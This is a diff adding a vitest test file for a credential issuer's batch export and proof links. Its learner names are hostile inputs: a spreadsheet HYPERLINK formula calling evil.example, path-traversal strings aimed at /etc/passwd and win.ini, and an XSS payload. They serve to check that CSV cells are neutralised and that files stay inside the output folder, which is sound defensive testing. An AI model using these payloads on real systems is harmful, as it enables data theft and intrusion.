@@ -1,0 +1,176 @@
+// The files that holders get: names from our own ids, private on a shared machine, harmless in a spreadsheet.
+import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { DatabaseSync } from "node:sqlite";
+import { parse } from "csv-parse/sync";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { parseJsonObject } from "../../src/core/json.ts";
+import type { RosterRow } from "../../src/core/rosterRow.ts";
+import type { IssuerContext } from "../../src/issuer/context.ts";
+import { exportBatch, makeFolder, proofLink } from "../../src/issuer/exportBatch.ts";
+import { issueRoster } from "../../src/issuer/issue.ts";
+import { fileBehindLink } from "../../src/store/files.ts";
+import type { Batch } from "../../src/store/store.ts";
+import { filesOf } from "../support/issuing.ts";
+import { TestLedger, type TestIssuer } from "../support/ledger.ts";
+import { achievement, learners } from "../support/learners.ts";
+import { temporaryFolder } from "../support/temporary.ts";
+
+const NAMES = [
+  '=HYPERLINK("https://evil.example/?"&A1)',
+  "+4711",
+  "-2+3",
+  "@SUM(A1)",
+  "../../etc/passwd",
+  "..\\..\\windows\\win.ini",
+  "CON",
+  "a/b",
+  'Comma, "Quote"',
+  "<img src=x onerror=alert(1)>",
+  "Ñandú Kowalska",
+  "n".repeat(200),
+];
+const ORIGIN = "https://verify.example.edu";
+const folder = temporaryFolder();
+let ledger: TestLedger;
+let issuer: TestIssuer;
+let context: IssuerContext;
+let batch: Batch;
+let rows: RosterRow[];
+let folders = 0;
+const newFolder = (): string => join(folder, `out-${++folders}`);
+
+beforeAll(async () => {
+  ledger = await TestLedger.start(folder);
+  issuer = await ledger.issuer();
+  context = await ledger.context(issuer);
+  rows = learners(NAMES.length).map((row, i) => ({ ...row, name: NAMES[i] ?? "" }));
+  batch = await issueRoster(context, { rows, achievement }, issuer);
+});
+afterAll(() => ledger.stop());
+
+interface Line {
+  readonly row: string;
+  readonly name: string;
+  readonly credential: string;
+  readonly link: string;
+  readonly file: string;
+}
+
+function linksIn(directory: string): Line[] {
+  return parse(readFileSync(join(directory, "links.csv")), { columns: true });
+}
+
+describe("an export", () => {
+  it("is one file per credential under its own id, the issuer's profile and a list of links, and nothing else", async () => {
+    const directory = newFolder();
+    expect(await exportBatch(context, batch.id, directory, ORIGIN)).toEqual({ directory, files: NAMES.length });
+    const files = await filesOf(context, batch);
+    const expected = files.map(({ id }) => `${String(id).slice("urn:uuid:".length)}.json`);
+    expect(readdirSync(directory).sort()).toEqual([...expected, "issuer-profile.json", "links.csv"].sort());
+    for (const [i, name] of expected.entries()) {
+      expect(name).toMatch(/^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}\.json$/);
+      expect(parseJsonObject(readFileSync(join(directory, name)))).toEqual(files[i]);
+    }
+    expect(parseJsonObject(readFileSync(join(directory, "issuer-profile.json")))).toEqual(issuer.profile);
+    expect(existsSync(join(folder, "etc"))).toBe(false);
+  });
+
+  it("lists links in the order of the roster, each leading to its learner's file", async () => {
+    const directory = newFolder();
+    await exportBatch(context, batch.id, directory, ORIGIN);
+    const lines = linksIn(directory);
+    expect(lines.map(({ row }) => Number(row))).toEqual(rows.map(({ row }) => row));
+    for (const [i, { name, credential, link, file }] of lines.entries()) {
+      expect(name.replace(/^'/, "")).toBe(NAMES[i]);
+      const id = link.slice(`${ORIGIN}/p/`.length);
+      expect(link).toBe(proofLink(ORIGIN, id));
+      expect(id).toMatch(/^[A-Za-z0-9_-]{22}$/);
+      const behind = await fileBehindLink(context.store, id);
+      expect(behind?.id).toBe(credential);
+      expect(JSON.stringify(behind)).toContain(`"identityHash":${JSON.stringify(NAMES[i])}`);
+      expect(parseJsonObject(readFileSync(join(directory, file)))).toEqual(behind);
+    }
+  });
+
+  it("writes no cell that a spreadsheet would take for a formula, and the name in the credential as it is", async () => {
+    const directory = newFolder();
+    await exportBatch(context, batch.id, directory, ORIGIN);
+    for (const line of linksIn(directory)) for (const cell of Object.values(line)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const names = linksIn(directory).map(({ file }) => readFileSync(join(directory, file), "utf8"));
+    expect(names[0]).toContain(JSON.stringify(NAMES[0]));
+  });
+
+  it("is for its owner only: it holds names and grades", async () => {
+    const before = process.umask(0);
+    const directory = newFolder();
+    await exportBatch(context, batch.id, directory, ORIGIN);
+    process.umask(before);
+    expect(statSync(directory).mode & 0o777).toBe(0o700);
+    for (const { file } of linksIn(directory)) expect(statSync(join(directory, file)).mode & 0o777).toBe(0o600);
+    expect(statSync(join(directory, "links.csv")).mode & 0o777).toBe(0o600);
+  });
+
+  it("is the same when it is made again, into the same folder or another", async () => {
+    const [first, second] = [newFolder(), newFolder()];
+    await exportBatch(context, batch.id, first, ORIGIN);
+    writeFileSync(join(first, "note.txt"), "the registrar's own");
+    await exportBatch(context, batch.id, first, ORIGIN);
+    await exportBatch(context, batch.id, second, ORIGIN);
+    for (const name of readdirSync(second)) expect(readFileSync(join(first, name))).toEqual(readFileSync(join(second, name)));
+    expect(readFileSync(join(first, "note.txt"), "utf8")).toBe("the registrar's own");
+  });
+
+  it("is refused before the batch is published, and writes nothing", async () => {
+    const other = await ledger.context(issuer);
+    const stops = issueRoster(other, { rows, achievement }, issuer, {
+      onState: (state) => {
+        if (state === "included") throw new Error("stop");
+      },
+    });
+    await expect(stops).rejects.toThrow("stop");
+    const directory = newFolder();
+    await expect(exportBatch(other, 1, directory, ORIGIN)).rejects.toMatchObject({
+      code: "not_published",
+      data: { batch: 1, state: "included" },
+    });
+    expect(existsSync(directory)).toBe(false);
+    await expect(exportBatch(other, 2, directory, ORIGIN)).rejects.toMatchObject({ code: "unknown_batch" });
+  });
+
+  it("cannot go where a file stands, or nobody may write", () => {
+    const path = newFolder();
+    writeFileSync(path, "a file");
+    expect(() => makeFolder(path)).toThrow(/EEXIST/);
+    if (process.getuid?.() === 0) return; // root may write anywhere
+    const closed = newFolder();
+    mkdirSync(closed);
+    chmodSync(closed, 0o500);
+    expect(() => makeFolder(closed)).toThrow(/EACCES/);
+  });
+});
+
+describe("a proof link", () => {
+  it("that is unknown or malformed leads nowhere", async () => {
+    for (const id of ["A".repeat(22), "", "../1", "%"]) expect(await fileBehindLink(context.store, id)).toBeNull();
+  });
+
+  it("of a batch that is not published any more leads nowhere", async () => {
+    const other = await ledger.context(issuer);
+    const published = await issueRoster(other, { rows: learners(1), achievement }, issuer);
+    const [link] = await other.store.listLinks(published.id);
+    expect(await fileBehindLink(other.store, link?.id ?? "")).not.toBeNull();
+    await other.store.moveBatch(published.id, "published", "included");
+    expect(await fileBehindLink(other.store, link?.id ?? "")).toBeNull();
+  });
+
+  it("says so where the tree of its batch is damaged, instead of giving a file that cannot verify", async () => {
+    const other = await ledger.context(issuer);
+    const published = await issueRoster(other, { rows: learners(3), achievement }, issuer);
+    const [link] = await other.store.listLinks(published.id);
+    const database = new DatabaseSync(ledger.databasePath());
+    database.exec("update tiles set nodes = substr(nodes, 1, 31)");
+    database.close();
+    await expect(fileBehindLink(other.store, link?.id ?? "")).rejects.toMatchObject({ code: "damaged_row" });
+  });
+});
